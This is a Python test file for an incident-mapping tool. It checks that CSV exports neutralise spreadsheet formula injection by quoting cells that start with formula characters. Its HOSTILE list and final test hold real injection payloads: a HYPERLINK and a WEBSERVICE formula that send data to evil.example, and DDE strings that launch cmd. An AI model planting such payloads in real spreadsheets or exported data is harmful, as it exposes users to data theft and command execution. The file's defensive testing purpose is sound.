"""Spreadsheet formula injection (issue 14, item 5): CSV text cells never start a formula.

Titles, URLs, outlets and quotes come from the internet. A CSV cell starting with
``=``, ``+``, ``-``, ``@``, tab or carriage return is a live formula in Excel or
LibreOffice, so it is written with a leading single quote (OWASP) and
``read_incidents`` takes the quote off again. Numbers are never touched.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import mapper
from mapper.cli.main import main
from mapper.table.io import FORMULA_STARTS, guard_formula, unguard_formula

#: From the issue, then one per formula character, then quote-led look-alikes.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-twice",
]
#: Text that a spreadsheet reads as text already: written as it is.
HARMLESS = ["'Twas a rocket", "'", "2020-11-17", " =1+1", "Rockets, again"]


def table_with(texts: list[str]) -> pd.DataFrame:
    """One incident per text, the text in every free-text column, west of Greenwich."""
    return mapper.incident_frame(
        [
            {
                "report_id": f"r{n}",
                "incident_id": f"r{n}-1",
                "date": "2020-11-17",
                "date_precision": "day",
                "latitude": -33.5,
                "longitude": -5.25,
                "geo_precision": 1,
                "weapon": "rocket",
                "killed": 0,
                "place": text,
                "target": text,
                "quote": text,
                "title": text,
                "url": text,
                "source": text,
            }
            for n, text in enumerate(texts)
        ]
    )


def csv_records(path: Path) -> list[dict[str, str]]:
    """The cells as a spreadsheet gets them: no newline translation (a CR is a CR)."""
    text = path.read_bytes().decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_starts_a_formula_gets_a_quote_and_reads_back_unchanged(
    tmp_path: Path, text: str
) -> None:
    path = tmp_path / "incidents.csv"
    table = table_with([text])
    mapper.write_incidents(table, path)
    (record,) = csv_records(path)
    for column in ("place", "target", "quote", "title", "url", "source"):
        assert record[column] == "'" + text
    pd.testing.assert_frame_equal(mapper.read_incidents(path), table)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(tmp_path: Path, text: str) -> None:
    path = tmp_path / "incidents.csv"
    table = table_with([text])
    mapper.write_incidents(table, path)
    assert csv_records(path)[0]["title"] == text
    pd.testing.assert_frame_equal(mapper.read_incidents(path), table)


def test_numbers_and_dates_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "incidents.csv"
    mapper.write_incidents(table_with(HOSTILE[:1]), path)
    (record,) = csv_records(path)
    assert (record["latitude"], record["longitude"]) == ("-33.5", "-5.25")
    assert (record["date"], record["killed"], record["geo_precision"]) == ("2020-11-17", "0", "1")


def test_no_cell_of_a_hostile_table_starts_a_formula_except_numbers(tmp_path: Path) -> None:
    path = tmp_path / "incidents.csv"
    mapper.write_incidents(table_with(HOSTILE + HARMLESS), path)
    numbers = {"latitude", "longitude"}
    for record in csv_records(path):
        for column, cell in record.items():
            assert column in numbers or cell[:1] not in FORMULA_STARTS, (column, cell)


@pytest.mark.parametrize("extension", ["geojson", "jsonl"])
def test_json_formats_keep_the_text_verbatim(tmp_path: Path, extension: str) -> None:
    path = tmp_path / f"incidents.{extension}"
    table = table_with(HOSTILE)
    mapper.write_incidents(table, path)
    assert json.dumps(HOSTILE[0])[1:-1] in path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" not in path.read_text(encoding="utf-8")
    pd.testing.assert_frame_equal(mapper.read_incidents(path), table)


def test_a_hand_written_quote_led_cell_is_read_back_as_written(tmp_path: Path) -> None:
    # The quote is only taken off where the writer could have put it.
    table = table_with(["'Twas a rocket"])
    path = tmp_path / "incidents.csv"
    mapper.write_incidents(table, path)
    text = path.read_text(encoding="utf-8")
    assert mapper.read_incidents(path).loc[0, "title"] == "'Twas a rocket"
    path.write_text(text.replace("'Twas a rocket", "'=1+1"), encoding="utf-8")
    assert mapper.read_incidents(path).loc[0, "title"] == "=1+1"


def test_a_report_with_a_formula_title_gives_a_safe_csv_and_the_same_map(tmp_path: Path) -> None:
    # As the issue builds it: a report whose title, address and outlet are formulas.
    report = {
        "id": "evil",
        "published": "2020-11-18",
        "title": HOSTILE[0],
        "url": '=WEBSERVICE("http://evil.example/")',
        "source": HOSTILE[1],
        "text": "Two rockets struck the Green Zone in Baghdad on Tuesday.",
    }
    (tmp_path / "wire.jsonl").write_text(json.dumps(report) + "\n", encoding="utf-8")
    table, built, rendered = tmp_path / "i.csv", tmp_path / "built.html", tmp_path / "again.html"
    assert main(["build", str(tmp_path / "wire.jsonl"), "-o", str(built),
                 "--incidents", str(table), "--quiet"]) == 0  # fmt: skip
    (record,) = csv_records(table)
    assert (record["title"], record["url"], record["source"]) == (
        "'" + report["title"],
        "'" + report["url"],
        "'" + report["source"],
    )
    incidents = mapper.read_incidents(table)
    assert incidents.loc[0, "title"] == report["title"]
    assert json.loads(incidents.loc[0, "sources"])[0]["title"] == report["title"]
    assert main(["render", str(table), "-o", str(rendered)]) == 0
    assert rendered.read_bytes() == built.read_bytes()


@given(st.text())
def test_guarding_is_undone_exactly_and_never_leaves_a_formula(text: str) -> None:
    guarded = guard_formula(text)
    assert unguard_formula(guarded) == text
    assert guarded[:1] not in FORMULA_STARTS or guarded == ""
    assert guarded in (text, "'" + text)
